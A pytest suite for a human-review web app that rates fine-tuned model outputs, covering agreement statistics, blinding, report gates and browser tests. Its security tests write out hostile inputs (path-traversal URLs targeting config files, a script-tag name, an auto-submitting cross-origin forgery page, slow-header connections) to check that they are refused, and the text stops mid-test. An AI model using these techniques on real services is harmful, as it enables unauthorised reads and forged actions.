"""`sftflow review` (human review web app) and the merge of its ratings into `sftflow report`.

The browser test drives Debian's chromium through chromedriver with Selenium against the
real CLI, rates examples with the keyboard only, and checks the SQLite store and the CSV
export. It saves screenshots to $SFTFLOW_ARTIFACTS (default tests/artifacts/).
Everything else uses FastAPI's in-process TestClient.
"""

import csv
import html
import io
import json
import re
import signal
import subprocess
import time

import pytest

from tests.browser import ARTIFACTS, browser
from tests.review.conftest import ADMIN, TOKEN
from tests.review.session import browser_login, start_review, stored_ratings
from tests.support import SFTFLOW, live_server

AS_ADMIN = {"Authorization": f"Bearer {ADMIN}"}
FULL_FORM = {"a_coherence": "4", "a_correctness": "3", "b_coherence": "2", "b_correctness": "1", "preferred": "A"}


def _client(run_dir, reviewer: str | None = "ann", settings=None):
    from fastapi.testclient import TestClient

    from sftflow.review.app import create_app

    client = TestClient(create_app(run_dir, TOKEN, admin_token=ADMIN, settings=settings),
                        raise_server_exceptions=True, follow_redirects=False)
    if reviewer:
        r = client.post("/login", data={"token": TOKEN, "name": reviewer, "same_person": "on"})  # a return is fine
        assert r.status_code == 303, r.text
        client.csrf = _csrf(client.get("/review", follow_redirects=True).text)
    return client


def _csrf(page: str) -> str:
    """The form token on a page, read as a browser's form would send it ("" if there is none)."""
    found = re.search(r'name="csrf" value="([^"]*)"', page)
    return found.group(1) if found else ""


def _form(client, **changes) -> dict:
    return {**FULL_FORM, "csrf": client.csrf, **changes}


def _ids(run_dir) -> list[str]:
    return [json.loads(line)["id"] for line in (run_dir / "eval" / "predictions.jsonl").read_text().splitlines()]


# ------------------------------------------------------------------ statistics


def test_cohen_kappa_known_values():
    from sftflow.stats import cohen_kappa

    # the textbook 2x2 table: 20 yes/yes, 5 yes/no, 10 no/yes, 15 no/no -> kappa 0.4
    a = ["y"] * 25 + ["n"] * 25
    b = ["y"] * 20 + ["n"] * 5 + ["y"] * 10 + ["n"] * 15
    assert cohen_kappa(a, b) == pytest.approx(0.4)
    assert cohen_kappa(["x", "y"], ["x", "y"]) == 1.0
    assert cohen_kappa(["x", "x"], ["x", "x"]) is None  # undefined: no variation at all
    assert cohen_kappa([], []) is None


def test_linearly_weighted_kappa_counts_a_near_miss_as_near():
    """Scores 1-5 are ordinal: unweighted kappa counted 4 against 5 as a full disagreement.
    Worked by hand: |a - b| = 1,0,0,1,0, observed disagreement 2/5 = 0.4; expected, the mean
    |x - y| over all 25 pairs of a's and b's answers, (12 + 7 + 6 + 7 + 8) / 25 = 1.6; weighted
    kappa 1 - 0.4 / 1.6 = 0.75. Unweighted: agreement 3/5, chance (2 + 1 + 2) / 25 = 0.2, so 0.5."""
    from sftflow.stats import cohen_kappa

    a, b = [1, 2, 3, 4, 5], [2, 2, 3, 5, 5]
    assert cohen_kappa(a, b, "linear") == pytest.approx(0.75)
    assert cohen_kappa(a, b) == pytest.approx(0.5)
    # one miss on three examples: by 1 point, observed 1/3, expected (7 + 3 + 5) / 9, so 0.8;
    # by 4 points, observed 4/3, expected (10 + 4 + 2) / 9, so 0.25 (unweighted: 4/7 and 0.5)
    assert cohen_kappa([1, 3, 5], [2, 3, 5], "linear") == pytest.approx(0.8)
    assert cohen_kappa([1, 3, 5], [5, 3, 5], "linear") == pytest.approx(0.25)
    assert cohen_kappa([3, 3], [3, 3], "linear") is None  # undefined: no variation at all
    with pytest.raises(ValueError, match="linear"):
        cohen_kappa(a, b, "quadratic")


def test_weighted_kappa_equals_scikit_learn():
    """The reference implementation (scikit-learn, in the dev extras through sentence-transformers):
    labels 1-5 make its linear weights the distance between scores."""
    sklearn = pytest.importorskip("sklearn.metrics")
    import random

    from sftflow.stats import cohen_kappa

    rng = random.Random(5)
    for n in (3, 8, 40):
        a = [rng.randint(1, 5) for _ in range(n)]
        b = [min(5, max(1, x + rng.choice((-2, -1, 0, 0, 1)))) for x in a]
        for weights in ("linear", None):
            assert cohen_kappa(a, b, weights) == pytest.approx(
                sklearn.cohen_kappa_score(a, b, labels=[1, 2, 3, 4, 5], weights=weights)), (a, b, weights)


def test_scores_get_weighted_kappa_and_categories_unweighted():
    """In the summary, coherence and correctness (1-5) are linearly weighted; the preferred
    answer and the flags stay unweighted; metrics.json says which."""
    from sftflow.ratings import output_hash
    from sftflow.review.stats import summarise_ratings

    ids = list("pqrst")
    preds = {e: {"tuned": "t", "base": "b"} for e in ids}
    row = {"skipped": 0, "a_model": "tuned", "tuned_hash": output_hash("t"), "base_hash": output_hash("b"),
           **{f"{m}_{f}": 3 for m in ("tuned", "base") for f in ("coherence", "correctness")},
           **{f"{m}_{f}": 0 for m in ("tuned", "base") for f in ("safety", "hallucination")},
           **{f"{m}_{f}": "" for m in ("tuned", "base") for f in ("span", "note")}}
    x, y = [1, 2, 3, 4, 5], [2, 2, 3, 5, 5]  # the hand-worked case above: weighted 0.75, unweighted 0.5
    ratings = [{**row, "example_id": e, "reviewer": who, "tuned_coherence": score, "preferred": pref,
                "tuned_safety": score == 2}
               for who, scores in (("x", x), ("y", y))
               for e, score, pref in zip(ids, scores, ("tuned", "base") * 3, strict=False)]
    (pair,) = summarise_ratings(ids, preds, ratings)["agreement"]
    assert pair["tuned_coherence"]["kappa"] == pytest.approx(0.75) and pair["tuned_coherence"]["weights"] == "linear"
    assert pair["tuned_coherence"]["agreement"] == pytest.approx(0.6)  # percent agreement stays exact agreement
    assert pair["preferred"]["kappa"] == pytest.approx(1.0) and pair["preferred"]["weights"] is None
    # safety: x flags q only, y flags p and q -> agreement 4/5, chance (4*3 + 1*2) / 25 = 0.56
    assert pair["tuned_safety"]["kappa"] == pytest.approx((0.8 - 0.56) / 0.44) and pair["tuned_safety"]["weights"] is None
    assert {k for k, v in pair.items() if isinstance(v, dict) and v["weights"]} == {
        "tuned_coherence", "base_coherence", "tuned_correctness", "base_correctness"}


def test_win_rate_counts_each_example_once():
    from sftflow.ratings import output_hash
    from sftflow.review.stats import summarise_ratings

    preds = {e: {"tuned": "t", "base": "b"} for e in "pqr"}
    base = {"skipped": 0, "a_model": "tuned", "tuned_hash": output_hash("t"), "base_hash": output_hash("b"),
            **{f"{m}_{f}": 0 for m in ("tuned", "base") for f in ("coherence", "correctness", "safety", "hallucination")},
            **{f"{m}_{f}": "" for m in ("tuned", "base") for f in ("span", "note")}}
    ratings = [
        {**base, "example_id": "p", "reviewer": "x", "preferred": "tuned"},
        {**base, "example_id": "p", "reviewer": "y", "preferred": "base"},  # p: 0.5
        {**base, "example_id": "q", "reviewer": "x", "preferred": "tie"},  # q: 0.5
        {**base, "example_id": "r", "reviewer": "x", "preferred": "tuned"},  # r: 1
        {**base, "example_id": "r", "reviewer": "y", "preferred": "tuned", "tuned_hash": "stale"},
    ]
    s = summarise_ratings(list("pqr"), preds, ratings)
    assert s["win_rate"]["mean"] == pytest.approx(2 / 3) and s["win_rate"]["n"] == 3
    assert s["stale"] == 1 and s["ratings"] == 4
    assert s["agreement"][0]["reviewers"] == ["x", "y"] and s["agreement"][0]["examples"] == 1


def test_word_diff_marks_what_differs_and_escapes_the_rest():
    from sftflow.review.app import diff_html

    ref = '{"intent": "refund", "urgency": "high"}'
    assert str(diff_html(ref, ref)) == "{&#34;intent&#34;: &#34;refund&#34;, &#34;urgency&#34;: &#34;high&#34;}"
    out = str(diff_html('{"intent": "refund", "urgency": "low"}', ref))
    assert out.count("<mark") == 1 and '<mark class="diff">low</mark>' in out
    # the text is unchanged (a selected span is exactly the output) and nothing in it is markup
    out = diff_html("Hi <b>Ann</b>, the laptop is fine", "Hello Ann, the laptop is fine")
    assert str(out) == '<mark class="diff">Hi &lt;b&gt;</mark>Ann<mark class="diff">&lt;/b&gt;,</mark> the laptop is fine'
    assert str(diff_html("", ref)) == ""


def test_rating_page_shows_the_rubric_and_the_differences(run_dir):
    client = _client(run_dir)
    eid = _ids(run_dir)[0]
    page = client.get(f"/review/{eid}").text
    assert 'id="rubric"' in page and "<b>1</b> garbled" in page and "<b>5</b> fluent" in page
    assert "makes something up</th>" in page and "harmful or unsafe</th>" in page
    row = json.loads((run_dir / "eval" / "predictions.jsonl").read_text().splitlines()[0])
    for side in ("a", "b"):
        pre = page.split(f'id="out-{side}" data-side="{side}">')[1].split("</pre>")[0]
        text = pre.replace('<mark class="diff">', "").replace("</mark>", "")
        assert html.unescape(text) in (row["tuned"], row["base"])
        assert ("<mark" in pre) == (html.unescape(text).strip() != row["reference"].strip())


# ------------------------------------------------------------------ the web app, in process


def test_every_page_needs_the_token(run_dir):
    anon = _client(run_dir, reviewer=None)
    first = _ids(run_dir)[0]
    assert anon.get("/review").headers["location"] == "/login"
    for path in [f"/review/{first}", "/summary", "/export/ratings.csv", "/api/summary"]:
        r = anon.get(path)
        assert r.status_code == 401 and "token" in r.text, path
    assert anon.post(f"/review/{first}", data=FULL_FORM).status_code == 401
    assert anon.get("/api/summary", headers=AS_ADMIN).status_code == 200
    assert anon.get("/api/summary", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 401  # a reviewer's token
    r = anon.post("/login", data={"token": "wrong", "name": "ann"})
    assert r.status_code == 401 and "wrong access token" in r.text
    r = anon.post("/login", data={"token": TOKEN, "name": "<script>"})
    assert r.status_code == 400 and "<script>" not in r.text


def test_bad_input_is_4xx_never_500(run_dir):
    client = _client(run_dir)
    first = _ids(run_dir)[0]
    url = f"/review/{first}"
    cases = [
        ("/review/no-such-id", FULL_FORM, 404, "no example with id"),
        (url, {**FULL_FORM, "a_coherence": "9"}, 400, "a_coherence: choose a score from 1 to 5"),
        (url, {**FULL_FORM, "b_correctness": "x"}, 400, "b_correctness"),
        (url, {k: v for k, v in FULL_FORM.items() if k != "preferred"}, 400, "preferred: choose A, B or tie"),
        (url, {**FULL_FORM, "preferred": "C"}, 400, "preferred"),
        (url, {**FULL_FORM, "a_model": "tuned"}, 400, "unknown form field(s): a_model"),
        (url, {**FULL_FORM, "a_safety": "maybe"}, 400, "a_safety"),
        (url, {**FULL_FORM, "a_note": "x" * 2001}, 400, "at most 2000"),
        (url, {**FULL_FORM, "action": "delete"}, 400, "action must be"),
    ]
    for path, form, status, text in cases:
        r = client.post(path, data={**form, "csrf": client.csrf})
        assert r.status_code == status and text in r.text, (form, r.status_code, r.text[-300:])
    r = client.post(url, content=b"a_coherence=1&a_coherence=2&csrf=" + client.csrf.encode(), headers={"content-type": "application/x-www-form-urlencoded"})
    assert r.status_code == 400 and "more than once" in r.text
    r = client.post(url, data={"csrf": client.csrf}, files={"a_note": ("x.txt", b"file")})
    assert r.status_code == 400
    r = client.post(url, content=b"--broken\r\n", headers={"content-type": "multipart/form-data; boundary=zzz"})
    assert r.status_code == 400
    r = client.post(url, content=b"a" * 70_000, headers={"content-type": "application/x-www-form-urlencoded"})
    assert r.status_code == 413
    assert not (run_dir / "eval" / "review.sqlite").exists() or stored_ratings(run_dir) == []  # nothing stored from bad input

    assert client.post(url, data=_form(client)).status_code == 303
    again = client.post(url, data=_form(client), headers={"accept": "application/json"})  # a double submit
    assert again.status_code == 200 and again.json() == {"stored": True}
    assert len(stored_ratings(run_dir)) == 1


def test_no_file_outside_the_app_is_served(run_dir, project):
    client = _client(run_dir)
    secret = (project / "sftflow.yaml").read_text()
    for path in ["/static/../../sftflow.yaml", "/static/..%2F..%2F..%2Fsftflow.yaml", "/static/%2e%2e/app.py",
                 "/static/templates%2Fbase.html", "/export/..%2F..%2Fconfig.yaml", "/export/review.sqlite",
                 "/review/..%2F..%2Fconfig.yaml", "/review/../../sftflow.yaml", "/static/", "/export/%00"]:
        r = client.get(path, headers=AS_ADMIN if path.startswith("/export") else {})
        assert r.status_code == 404, (path, r.status_code)
        assert "name_or_path" not in r.text and secret not in r.text and "{% " not in r.text
    assert client.get("/static/review.js").status_code == 200
    assert client.get("/export/ratings.jsonl", headers=AS_ADMIN).status_code == 200


def test_blinding_is_stable_and_rated_under_the_right_model(run_dir):
    from sftflow.review.store import ReviewStore

    client = _client(run_dir)
    ids = _ids(run_dir)
    preds = {json.loads(line)["id"]: json.loads(line) for line in
             (run_dir / "eval" / "predictions.jsonl").read_text().splitlines()}
    store = ReviewStore(run_dir / "eval" / "review.sqlite")
    orders = [store.a_model(e, "ann") for e in ids]
    assert orders == [store.a_model(e, "ann") for e in ids]  # a reload shows the same order
    first = ids[0]
    page = client.get(f"/review/{first}").text
    assert "tuned" not in page.split("<main>")[1].split('id="help"')[0]  # nothing names the model before rating
    client.post(f"/review/{first}", data=_form(client, preferred="B", b_hallucination="on", b_span="x"))
    row = stored_ratings(run_dir)[0]
    b_model = "base" if orders[0] == "tuned" else "tuned"
    assert row["preferred"] == b_model and row[f"{b_model}_hallucination"] == 1 and row[f"{b_model}_span"] == "x"
    assert row[f"{orders[0]}_coherence"] == 4 and row[f"{b_model}_correctness"] == 1
    assert preds[first]["tuned"] in client.get(f"/review/{first}").text


def test_reasoning_is_shown_apart_from_the_answer(run_dir):
    """A <think> block eval split off (tuned_reasoning) is shown folded away above the answer it led to."""
    path = run_dir / "eval" / "predictions.jsonl"
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    rows[0]["tuned_reasoning"] = "The customer <b>needs</b> a laptop fix."
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    page = _client(run_dir).get(f"/review/{rows[0]['id']}").text
    thought = page.index("The customer &lt;b&gt;needs&lt;/b&gt; a laptop fix.")  # shown as text
    assert "reasoning (not scored)" in page and "<details" in page[:thought]
    assert "reasoning (not scored)" not in _client(run_dir, "bob").get(f"/review/{rows[1]['id']}").text


def test_stale_ratings_after_a_new_eval(run_dir):
    client = _client(run_dir)
    first = _ids(run_dir)[0]
    client.post(f"/review/{first}", data=_form(client))
    path = run_dir / "eval" / "predictions.jsonl"
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    rows[0]["tuned"] = "a different answer from a re-run eval"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    client = _client(run_dir)  # the app reads predictions at start, as after a restart
    assert client.get("/api/summary", headers=AS_ADMIN).json()["stale"] == 1
    assert 'id="rated"' not in client.get(f"/review/{first}").text  # up for rating again
    assert client.post(f"/review/{first}", data=_form(client)).status_code == 303
    assert 'id="rated"' in client.get(f"/review/{first}").text
    assert len(stored_ratings(run_dir)) == 1 and client.get("/api/summary", headers=AS_ADMIN).json()["stale"] == 0


def test_report_merges_ratings_and_gates_human_win_rate(project, run_dir):
    import yaml
    from typer.testing import CliRunner

    from sftflow.cli import app
    from sftflow.review.store import ReviewStore

    cfg_path = project / "sftflow.yaml"
    cfg = yaml.safe_load(cfg_path.read_text())
    cfg["eval"]["gates"] = {"human_win_rate": ">= 0.6"}
    cfg["review"] = {"min_ratings": 5}
    cfg_path.write_text(yaml.safe_dump(cfg))
    runner = CliRunner()

    r = runner.invoke(app, ["report", str(cfg_path)])  # gate configured, nobody has rated yet
    assert r.exit_code == 1 and "gates failed: human_win_rate (not enough ratings)" in r.output, r.output

    ids = _ids(run_dir)
    store = ReviewStore(run_dir / "eval" / "review.sqlite")
    for reviewer in ("ann", "bob"):
        client = _client(run_dir, reviewer)
        for i, eid in enumerate(ids[:5]):
            side = "A" if store.a_model(eid, reviewer) == "tuned" else "B"
            form = _form(client, preferred=side)
            if i == 0 and reviewer == "ann":
                form.update({f"{side.lower()}_hallucination": "on", f"{side.lower()}_note": "invented"})
            assert client.post(f"/review/{eid}", data=form).status_code == 303
    # tuned preferred on all 5 examples by both: 100%, and its interval [100%, 100%] clears 0.6
    r = runner.invoke(app, ["report", str(cfg_path)])
    assert r.exit_code == 0, r.output
    metrics = json.loads((run_dir / "eval" / "metrics.json").read_text())
    assert metrics["human"]["win_rate"]["mean"] == pytest.approx(1.0)
    assert [g["gate"] for g in metrics["gates"] if g["gate"].startswith("human_")] == ["human_win_rate"]
    assert metrics["passed"] is True
    html = (run_dir / "eval" / "report.html").read_text()
    assert "Human review" in html and "Human win rate, tuned vs base: 100%" in html and "invented" in html
    assert "ann &amp; bob (5 shared)" in html
    md = (run_dir / "eval" / "report.md").read_text()
    assert "## Human review" in md and "Human win rate, tuned vs base: 100%" in md

    # 1 flag in 10 ratings: Wilson [1.8%, 40.4%] is under 0.5 (passes); a win rate of 100% fails "<= 0.5"
    cfg["eval"]["gates"] = {"human_win_rate": "<= 0.5", "human_tuned.hallucination_rate": "<= 0.5"}
    cfg_path.write_text(yaml.safe_dump(cfg))
    r = runner.invoke(app, ["report", str(cfg_path)])
    assert r.exit_code == 1 and "gates failed: human_win_rate" in r.output
    assert "hallucination_rate" not in r.output.split("gates failed:")[1].split("(")[0]


def test_eval_gates_leave_human_gates_to_report():
    from sftflow.eval.gates import check_gates

    metrics = {"tuned": {"exact_match": {"mean": 0.5}}}
    results = check_gates(metrics, {"exact_match": ">= 0.4", "human_win_rate": ">= 0.6"})
    assert [g["gate"] for g in results] == ["exact_match"]
    human = {"win_rate": {"mean": 0.65, "ci95": [0.61, 0.7], "n": 40}}
    with_human = check_gates({**metrics, "human": human}, {"human_win_rate": ">= 0.6"}, min_ratings=30)
    assert with_human[0]["passed"] and with_human[0]["value"] == 0.65


# ------------------------------------------------------------------ the CLI and a real browser


def test_cli_review_errors_are_one_line(tmp_path, run_dir):
    (run_dir / "eval" / "predictions.jsonl").unlink()
    for args, text in [([str(tmp_path / "nope")], "not a folder"), ([str(run_dir)], "predictions.jsonl: not found"),
                       ([str(run_dir), "--token", "short"], "at least 8 characters")]:
        r = subprocess.run([SFTFLOW, "review", *args, "--port", "0"], text=True, capture_output=True, timeout=60)
        lines = [line for line in r.stderr.splitlines() if line.strip()]
        assert r.returncode == 2 and len(lines) == 1 and text in lines[0], r.stderr


def test_browser_review_with_keyboard(run_dir, processes):
    """Log in with the printed token, rate with the keyboard, check SQLite and the CSV export."""
    from urllib.parse import unquote

    import httpx
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    from sftflow.review.store import ReviewStore

    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    proc, login_url = start_review(processes, run_dir, "--admin-token", ADMIN)
    base_url, token = login_url.split("/login?token=")
    driver = browser()
    ids = _ids(run_dir)
    shown = lambda: unquote(driver.current_url.split("/review/")[1].split("?")[0])  # noqa: E731
    rated = []
    try:
        wait = browser_login(driver, base_url, token, "alice")
        keys = lambda *k: ActionChains(driver).send_keys(*k).perform()  # noqa: E731

        rubric = driver.find_element(By.ID, "rubric")  # what 1 and 5 mean, one click away while rating
        rubric.find_element(By.TAG_NAME, "summary").click()
        assert rubric.is_displayed() and "garbled" in rubric.text and "right in substance" in rubric.text
        preds = {json.loads(line)["id"]: json.loads(line) for line in
                 (run_dir / "eval" / "predictions.jsonl").read_text().splitlines()}
        for side in ("a", "b"):  # words that differ from the reference are highlighted, the text is unchanged
            out = driver.find_element(By.ID, f"out-{side}")
            assert out.text.strip() in (preds[shown()]["tuned"].strip(), preds[shown()]["base"].strip())
            marks = out.find_elements(By.CSS_SELECTOR, "mark.diff")
            assert bool(marks) == (out.text.strip() != preds[shown()]["reference"].strip())
            assert all(m.is_displayed() for m in marks)
        for i in range(3):
            eid = shown()
            rated.append(eid)
            assert f"Example {i + 1} of {len(ids)}" in driver.find_element(By.ID, "progress").text
            keys("4", "5", "3", "2", "b")  # A: coherence 4, correctness 5; B: 3, 2; prefer B
            if i == 1:
                driver.execute_script(
                    "const r = document.createRange(); r.selectNodeContents(document.getElementById('out-a'));"
                    "const s = window.getSelection(); s.removeAllRanges(); s.addRange(r);")
                keys("h", "S", "n")  # hallucination in A (the selected span), safety in B, note on B
                keys("looks unsafe", Keys.ESCAPE, "?")
                assert driver.find_element(By.ID, "a_hallucination").is_selected()
                assert driver.find_element(By.ID, "b_safety").is_selected()
                driver.save_screenshot(str(ARTIFACTS / "review-page.png"))
                keys("?")
            keys(Keys.ENTER)
            wait.until(lambda d, eid=eid: "saved=1" in d.current_url and shown() != eid)
            assert "Saved" in driver.find_element(By.ID, "saved").text
        rated.append(shown())
        keys("x")  # skip the fourth
        wait.until(lambda d: shown() != rated[-1])

        # a second reviewer rates the same three, so the summary can show agreement
        with httpx.Client(base_url=base_url, follow_redirects=False) as bob:
            assert bob.post("/login", data={"token": token, "name": "bob"}).status_code == 303
            bob_csrf = _csrf(bob.get("/review", follow_redirects=True).text)
            store = ReviewStore(run_dir / "eval" / "review.sqlite")
            for eid in rated[:3]:
                side = "B" if store.a_model(eid, "bob") == store.a_model(eid, "alice") else "A"
                form = {**FULL_FORM, "preferred": side, "csrf": bob_csrf}
                assert bob.post(f"/review/{eid}", data=form).status_code == 303
        driver.delete_all_cookies()  # the admin, in the same browser
        driver.get(base_url + "/login")
        driver.find_element(By.ID, "token").send_keys(ADMIN)
        driver.find_element(By.ID, "login").click()
        wait.until(lambda d: d.current_url.endswith("/summary"))
        assert "alice & bob (3 shared)" in driver.find_element(By.ID, "agreement").text
        assert "100% agree" in driver.find_element(By.ID, "agreement").text  # same preference every time
        driver.save_screenshot(str(ARTIFACTS / "review-summary.png"))
    finally:
        driver.quit()
        proc.send_signal(signal.SIGINT)
        proc.wait(timeout=20)

    rows = stored_ratings(run_dir)  # written at each submit, still there after the server stopped
    alice = [r for r in rows if r["reviewer"] == "alice"]
    assert [r["example_id"] for r in alice] == rated and [r["skipped"] for r in alice] == [0, 0, 0, 1]
    for r in alice[:3]:
        a, b = r["a_model"], "base" if r["a_model"] == "tuned" else "tuned"
        assert r["preferred"] == b
        assert (r[f"{a}_coherence"], r[f"{a}_correctness"], r[f"{b}_coherence"], r[f"{b}_correctness"]) == (4, 5, 3, 2)
    flagged = alice[1]
    a, b = flagged["a_model"], "base" if flagged["a_model"] == "tuned" else "tuned"
    assert flagged[f"{a}_hallucination"] == 1 and flagged[f"{a}_span"] == preds[rated[1]][a].strip()
    assert flagged[f"{b}_safety"] == 1 and flagged[f"{b}_note"] == "looks unsafe"
    assert not any(alice[0][f"{m}_{f}"] for m in ("tuned", "base") for f in ("safety", "hallucination"))

    app_proc, login_url = start_review(processes, run_dir, "--token", "another-token-42",
                                        "--admin-token", "another-admin-42")  # restart: ratings still there
    try:
        url = login_url.split("/login")[0]
        exported = httpx.get(url + "/export/ratings.csv", headers={"Authorization": "Bearer another-admin-42"})
        assert exported.status_code == 200 and "attachment" in exported.headers["content-disposition"]
        table = list(csv.DictReader(io.StringIO(exported.text)))
        assert len(table) == 7 and {r["reviewer"] for r in table} == {"alice", "bob"}
        assert table[1]["example_id"] == rated[1] and table[1][f"{b}_note"] == "looks unsafe"
        for old in (token, ADMIN, "another-token-42"):  # old tokens, and the reviewers' token
            assert httpx.get(url + "/export/ratings.csv", headers={"Authorization": f"Bearer {old}"}).status_code == 401
    finally:
        app_proc.send_signal(signal.SIGINT)
        app_proc.wait(timeout=20)
    assert (ARTIFACTS / "review-page.png").stat().st_size > 10_000


# ------------------------------------------------------------------ hostile clients (issue 10, promise 5)


def test_wrong_content_types_oversized_bodies_and_no_cors(run_dir, monkeypatch):
    """Each is a clear 4xx page (JSON under /api/), the token goes through hmac.compare_digest,
    and no answer carries CORS headers."""
    import hmac

    client = _client(run_dir)
    url = f"/review/{_ids(run_dir)[0]}"
    cases = [
        (client.post(url, json=FULL_FORM), 415, "content-type &#39;application/json"),
        (client.post(url, content=b"a_coherence=1", headers={"content-type": "text/plain"}), 415, "text/plain"),
        (client.post("/login", content=b"token=x&name=y", headers={"content-type": ""}), 415, "none"),
        (client.post(url, content=iter([b"a_note=" + b"x" * 70_000]),
                     headers={"content-type": "application/x-www-form-urlencoded"}), 413, "over 64 KiB"),
        (client.post(url, content=b"\xff\xfe=\x00&csrf=" + client.csrf.encode(), headers={"content-type": "application/x-www-form-urlencoded"}),
         400, ""),
        (client.put(url, data=FULL_FORM), 405, "Method Not Allowed"),
        (client.get("/review/" + "x" * 5000), 404, "no example"),
    ]
    for i, (r, status, text) in enumerate(cases):
        assert r.status_code == status and text in r.text, (i, r.status_code, r.text[-300:])
        assert "Traceback" not in r.text and not any(h.startswith("access-control-") for h in r.headers)
    pre = client.options("/api/summary", headers={"Origin": "https://evil.example",
                                                  "Access-Control-Request-Method": "GET"})
    assert 400 <= pre.status_code < 500 and not any(h.startswith("access-control-") for h in pre.headers)

    seen = []
    real = hmac.compare_digest
    monkeypatch.setattr(hmac, "compare_digest", lambda a, b: seen.append(b) or real(a, b))
    anon = _client(run_dir, reviewer=None)
    assert anon.get("/api/summary", headers={"Authorization": "Bearer " + TOKEN[:-1] + "x"}).status_code == 401
    assert anon.post("/login", data={"token": "nope", "name": "ann"}).status_code == 401
    # create_app checks the two tokens differ; then the bearer (admin), the login (admin first, then access)
    assert seen == [TOKEN.encode(), ADMIN.encode(), ADMIN.encode(), TOKEN.encode()]


def test_slow_clients_time_out_and_never_block_others(run_dir):
    """A real uvicorn with 1 s timeouts: 20 connections dribbling headers and one half-sent
    form do not delay a normal page; the slow ones get 408 and are closed."""
    import socket

    import httpx

    from sftflow.review.app import create_app

    with live_server(create_app(run_dir, TOKEN, read_timeout=1.0), header_timeout=1.0) as url:
        port = int(url.rsplit(":", 1)[1])
        slow = [socket.create_connection(("127.0.0.1", port), timeout=10) for _ in range(20)]
        for s in slow:
            s.sendall(b"GET /login HTTP/1.1\r\nHost: x\r\n")
        half = socket.create_connection(("127.0.0.1", port), timeout=10)
        half.sendall(b"POST /login HTTP/1.1\r\nHost: x\r\ncontent-type: application/x-www-form-urlencoded\r\n"
                     b"content-length: 50\r\n\r\ntoken=")
        t0 = time.monotonic()
        assert httpx.get(url + "/login", timeout=5).status_code == 200
        assert time.monotonic() - t0 < 2
        for s in [*slow, half]:
            out = b""
            while chunk := s.recv(65536):
                out += chunk
            assert out.startswith(b"HTTP/1.1 408 "), out[:200]
            s.close()
        assert time.monotonic() - t0 < 6


# ------------------------------------------------------------------ forged requests (issue 17)


def _login(url: str, name: str):
    import httpx

    client = httpx.Client(base_url=url, follow_redirects=False, timeout=30)
    assert client.post("/login", data={"token": TOKEN, "name": name}, headers={"Origin": url}).status_code == 303
    return client, _csrf(client.get("/review", follow_redirects=True).text)


def test_forged_posts_from_another_port_are_refused(run_dir, live):
    """A page on 127.0.0.1 at another port gets the reviewer's cookies attached (cookies ignore
    ports): its POSTs are refused with 403 and store nothing, so the reviewer's own rating of
    the same example still goes in (no 409)."""
    import httpx

    first, second = _ids(run_dir)[:2]
    other = f"http://127.0.0.1:{int(live.rsplit(':', 1)[1]) % 60000 + 1024}"  # another port, same host
    ann, csrf = _login(live, "ann")
    _, bob_csrf = _login(live, "bob")  # a valid token, but of another session
    forged = [
        ({"Origin": other}, {}),  # what a browser sends for the other page's form
        ({"Origin": other}, {"csrf": csrf}),  # even with the right token (say it leaked): wrong origin
        ({"Origin": "null"}, {}),  # a sandboxed frame, or a page with Referrer-Policy no-referrer
        ({"Referer": other + "/page.html"}, {}),  # no Origin: the Referer decides
        ({}, {}),  # neither: only the form token can vouch for it
        ({}, {"csrf": bob_csrf}),
        ({}, {"csrf": csrf[:-1] + "x"}),  # a near miss (the token is hex)
    ]
    for i, (headers, token) in enumerate(forged):
        r = ann.post(f"/review/{first}", data={**FULL_FORM, "preferred": "B", **token}, headers=headers)
        assert r.status_code == 403, (i, r.status_code, r.text[-300:])
        assert "refused" in r.text or "form token" in r.text
    r = ann.post("/logout", data={}, headers={"Origin": other})
    assert r.status_code == 403 and "set-cookie" not in r.headers
    with httpx.Client(base_url=live, follow_redirects=False) as stranger:  # login CSRF: logged in as someone else
        r = stranger.post("/login", data={"token": TOKEN, "name": "mallory"}, headers={"Origin": other})
        assert r.status_code == 403 and "set-cookie" not in r.headers
    assert not (run_dir / "eval" / "review.sqlite").exists() or stored_ratings(run_dir) == []

    r = ann.post(f"/review/{first}", data={**FULL_FORM, "csrf": csrf}, headers={"Origin": live})  # the page's form
    assert r.status_code == 303, r.text[-300:]
    r = ann.post(f"/review/{second}", data={**FULL_FORM, "action": "skip", "csrf": csrf})  # no Origin: token vouches
    assert r.status_code == 303, r.text[-300:]
    rows = stored_ratings(run_dir)
    assert [(r["example_id"], r["reviewer"], r["skipped"]) for r in rows] == [(first, "ann", 0), (second, "ann", 1)]
    assert rows[0]["preferred"] == ("tuned" if rows[0]["a_model"] == "tuned" else "base")  # A, as ann chose
    assert ann.post("/logout", data={"csrf": csrf}, headers={"Origin": live}).status_code == 303
    ann.close()


def test_browser_form_posted_from_another_port_is_refused(run_dir, live, tmp_path):
    """The same attack in Chromium: a reviewer logged in to the app opens a page served from
    127.0.0.1 on another port, which posts a rating form to the app on load."""
    import http.server
    import threading
    from functools import partial

    from selenium.webdriver.common.by import By

    first = _ids(run_dir)[0]
    fields = "".join(f'<input name="{k}" value="{v}">' for k, v in {**FULL_FORM, "preferred": "B"}.items())
    (tmp_path / "attack.html").write_text(
        f'<form id="f" method="post" action="{live}/review/{first}">{fields}</form>'
        '<script>document.getElementById("f").submit()</script>')
    handler = partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path))
    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    driver = browser()
    try:
        wait = browser_login(driver, live, TOKEN, "ann")
        driver.get(f"http://127.0.0.1:{attacker.server_address[1]}/attack.html")
        wait.until(lambda d: d.current_url.startswith(live))  # the form went to the app...
        assert "403" in driver.title and "cross-origin request refused" in driver.find_element(By.ID, "error").text
        assert not (run_dir / "eval" / "review.sqlite").exists() or stored_ratings(run_dir) == []  # ...and stored nothing
        driver.get(f"{live}/review/{first}")  # the reviewer's own rating still goes in
        for name in ("a_coherence", "a_correctness", "b_coherence", "b_correctness"):
            driver.find_element(By.CSS_SELECTOR, f'input[name="{name}"][value="3"]').click()
        driver.find_element(By.CSS_SELECTOR, 'input[name="preferred"][value="A"]').click()
